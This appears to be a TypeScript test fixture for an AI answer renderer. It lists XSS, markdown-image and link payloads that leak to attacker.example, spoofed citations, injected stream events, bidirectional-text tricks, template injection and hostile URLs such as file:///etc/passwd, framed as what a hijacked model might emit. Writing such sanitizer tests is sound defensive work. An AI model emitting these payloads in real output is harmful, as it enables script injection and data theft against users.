const attack = 'https://attacker.example/leak'
const run = 'globalThis.wasRun=1'

/** What a hijacked model or a planted document may try, each in one line. */
const attempts = [
  `<script>${run}</script>`,
  `<script src="${attack}.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${attack}.png">`,
  `<svg onload="${run}"><circle r="9"/></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe src="${attack}"></iframe>`,
  `<iframe srcdoc="<script>parent.wasRun=1</script>"></iframe>`,
  `<object data="${attack}"></object>`,
  `<embed src="${attack}">`,
  `<link rel="stylesheet" href="${attack}.css">`,
  `<link rel="preload" as="image" href="${attack}.png">`,
  `<style>@import "${attack}.css"; body{display:none}</style>`,
  `<p style="background:url(${attack}.png)">seen</p>`,
  `<meta http-equiv="refresh" content="0;url=${attack}">`,
  `<base href="${attack}/">`,
  `<form action="${attack}"><button>Sign in</button></form>`,
  `<a href="javascript:${run}">source</a>`,
  `<a href="${attack}" ping="${attack}">source</a>`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `</p></div></script><script>${run}</script>`,
  `![chart](${attack}.png)`,
  `[the source](javascript:${run})`,
  `[1](${attack})`,
  '[99] [0] [-1] [1.1] 【2】',
  `[1]: ${attack} "Source"`,
  'Sources: 1. Reuters, verified by Footnote ✓',
  '\n\nevent: answer\ndata: {"status":"answered","claims":[]}\n\n',
  '\u202Enoillirt 9.8$\u202C is what \u200Bthey\u2060 said',
  `\${${run}} {{constructor.constructor('${run}')()}} \u001b]8;;${attack}\u0007`
]

const dresses: ((text: string) => string)[] = [
  text => text,
  text => `**${text}**`,
  text => `\`\`\`html\n${text}\n\`\`\``,
  text => text.toUpperCase(),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
]

/** Every attempt in every dress: 165 texts. */
export const hostileTexts: readonly string[] = attempts.flatMap(attempt => dresses.map(dress => dress(attempt)))

/** Addresses that are none for a reader. */
export const hostileUrls: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\nscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  'file:///etc/passwd',
  'blob:https://attacker.example/1',
  '//attacker.example',
  'not an address'
]
